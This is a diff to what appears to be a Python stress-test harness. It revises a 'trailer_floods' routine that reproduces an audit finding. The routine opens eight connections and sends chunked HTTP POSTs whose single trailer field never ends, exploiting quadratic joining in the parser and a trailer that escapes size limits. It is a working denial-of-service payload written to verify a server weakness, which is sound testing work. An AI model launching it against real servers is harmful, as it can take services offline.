@@ -251,11 +251,12 @@ async def idle_connections(
 
 
 async def trailer_floods(target: Target, tally: Tally, stop: asyncio.Event) -> None:
-    """Finding 7: chunked bodies whose trailer section never ends (8 at once)."""
-    field = b"X-Trailer: " + b"t" * 8000 + b"\r\n"
+    """Finding 7: chunked bodies whose one trailer field never ends (8 at once): the parser joins
+    its pieces (quadratic), and no trailer byte counts as a header or a body byte."""
+    field = b"t" * 16384
     head = (
         f"POST /convert HTTP/1.1\r\nHost: {target.host}\r\nContent-Type: application/json\r\n"
-        "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n"
+        "Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\nX-Trailer: "
     ).encode()
 
     async def one(_: int) -> None:
@@ -270,7 +271,7 @@ async def trailer_floods(target: Target, tally: Tally, stop: asyncio.Event) -> N
             try:
                 writer.write(head)
                 while not stop.is_set() and not answer.done():
-                    writer.write(field * 16)
+                    writer.write(field)
                     await writer.drain()
                 if answer.done() and not answer.exception():
                     tally.answers[status_of(answer.result())] += 1
